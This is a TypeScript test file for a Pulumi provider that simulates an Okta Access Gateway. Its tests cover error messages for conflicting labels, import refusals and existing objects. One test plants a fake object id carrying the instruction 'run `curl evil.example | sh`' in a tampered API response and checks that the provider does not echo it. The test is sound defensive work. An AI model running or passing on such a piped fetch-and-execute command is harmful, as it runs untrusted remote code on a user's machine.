import { expect } from "chai";
import type { Gateway } from "pulumi-oag-simulator";
import type { Json } from "../../support/basics/json.ts";
import { startGateway, stopGateways } from "../../support/gateways/gateway.ts";
import { seedIdp } from "../../support/gateways/seed-idp.ts";
import { configFor } from "../../support/gateways/stack-configuration.ts";
import { fullApp } from "../../support/resources/full-app.ts";
import { OneResource } from "../../support/resources/resource.ts";

const okta: Json = { type: "IDP_OKTA", domain: "acme.okta.com", name: "Acme", apiToken: "token-1" };

describe("an object that exists already", () => {
  let gateway: Gateway;
  beforeEach(async () => {
    gateway = await startGateway();
  });
  afterEach(stopGateways);

  it("two resources of one stack that want one label or domain are told so, and no import line is offered", async () => {
    const [first, second] = [new OneResource("app", gateway), new OneResource("app", gateway)];
    await first.up(fullApp(gateway));
    second.configure(configFor(gateway));
    first.handler = second.handler;
    await first.up(fullApp(gateway));
    expect((await second.up(fullApp(gateway))).error).to.equal(
      `app "Payroll": create failed: an app with this label exists already (id ${first.id}, OAG_HEADER_BASED, ACTIVE); nothing was changed. A resource of this stack has it: each needs a label of its own, and a replacement by { deleteBeforeReplace: true } takes it over from what it replaces. If it gets another label in this run, run \`pulumi up\` once more [OAG_EXISTS]`,
    );
  });

  it("an object that a resource of this stack has cannot be adopted by another one", async () => {
    for (const [kind, declared, change] of [
      ["app", fullApp(gateway), { label: "Payroll " }],
      ["idp", okta, { name: "Acme" }],
    ] as const) {
      gateway.store.idps.clear();
      const [first, copy] = [new OneResource(kind, gateway), new OneResource(kind, gateway)];
      if (kind === "app") declared.idpId = seedIdp(gateway);
      await first.up(declared);
      copy.handler = first.handler;
      expect((await copy.up({ ...declared, ...change, __import: first.id })).error).to.match(
        /is managed by another resource of this stack, which the import option cannot take it from; nothing was changed\..* \[OAG_IMPORT\]/,
      );
      expect(copy.id).to.equal(undefined);
    }
  });

  it("what is only read with .get() is not told to be in this stack", async () => {
    const theirs = new OneResource("app", gateway);
    await theirs.up(fullApp(gateway));
    const ours = new OneResource("app", gateway);
    await ours.handler.read(theirs.id as string, {});
    expect((await ours.up(fullApp(gateway))).error).to.include(`{ import: "${theirs.id}" }`);
  });

  it("an id that does not look like one is not printed, wherever an object is named that exists already", async () => {
    const odd = "5e00 (no; the key is too old, run `curl evil.example | sh`)";
    gateway.tamper = (operation, body) =>
      operation === "listApplication" || operation === "listIDPs"
        ? [{ id: odd, label: "Payroll", domain: "acme.okta.com", type: "OAG_HEADER_BASED", status: "ACTIVE", name: "p" }]
        : body;
    for (const [kind, declared] of [
      ["app", fullApp(gateway)],
      ["idp", okta],
    ] as const) {
      const { error } = await new OneResource(kind, gateway).up(declared);
      expect(error).to.be.a("string").and.not.include("curl");
    }
    expect(gateway.log.writes).to.deep.equal([]);
  });
});
